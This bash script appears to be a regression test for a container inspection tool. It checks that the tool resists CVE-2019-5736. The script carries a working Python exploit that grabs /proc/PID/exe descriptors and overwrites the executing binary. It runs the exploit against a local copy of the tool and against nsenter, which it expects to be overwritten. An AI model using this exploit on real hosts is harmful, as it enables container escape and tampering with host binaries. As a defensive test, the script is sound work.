#!/bin/bash
# The command in the container is a script for /proc/self/exe, so that cinspect is executed again in the
# container; another process there waits for it to exit and writes to its file (CVE-2019-5736).
. "${0%/*}/lib.sh"
command -v python3 >/dev/null || fail "no python3"
cat >"$work/write.py" <<'EOF'
import os, sys
log = open(sys.argv[1], "w", buffering=1)
print("ready", file=log)
known, held = {1, os.getpid()}, []
while True:
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if pid not in known:
            try:
                fd = os.open(f"/proc/{pid}/exe", os.O_PATH)
                known.add(pid)
                held.append((fd, os.readlink(f"/proc/{pid}/exe")))
                print("held", held[-1][1], file=log)
            except OSError:
                pass
    for fd, name in held[-20:]:
        # Only files called like the victims: the container's programs are the host's here.
        if "victim" not in name and "/" != name:
            continue
        try:
            out = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY)
            os.write(out, b"#!/bin/echo owned\n")
            print("written", name, file=log)
        except OSError as error:
            print("not", name, error.strerror, file=log)
EOF
cp "$CINSPECT" "$work/victim"
cp /usr/bin/nsenter "$work/naive-victim"
printf '#!/proc/self/exe\n' >"$work/evil"
chmod +x "$work/evil"
cgroup /web
busy=1
start /web unshare -mpf --mount-proc --kill-child python3 "$work/write.py" "$work/log"
until grep -q ready "$work/log" 2>/dev/null; do sleep 0.1; done
init=$(child "$started")
before=$(sha256sum <"$work/victim")
naive=$(sha256sum <"$work/naive-victim")
for _ in $(seq 60); do
    timeout 100 "$work/victim" exec --no-cgroup "pid:$init" "$work/evil" </dev/null >/dev/null 2>&1 || true
done
# The attack succeeds against a tool without a defence; by then the writer has tried the victim, too.
for _ in $(seq 1000); do
    timeout 100 "$work/naive-victim" -t "$init" -m -p "$work/evil" </dev/null >/dev/null 2>&1 || true
    [ "$(sha256sum <"$work/naive-victim")" = "$naive" ] || break
done
[ "$(sha256sum <"$work/victim")" = "$before" ] || fail "the program was overwritten"
[ "$(sha256sum <"$work/naive-victim")" != "$naive" ] || fail "the attack does not work: $(sort "$work/log" | uniq -c | head)"
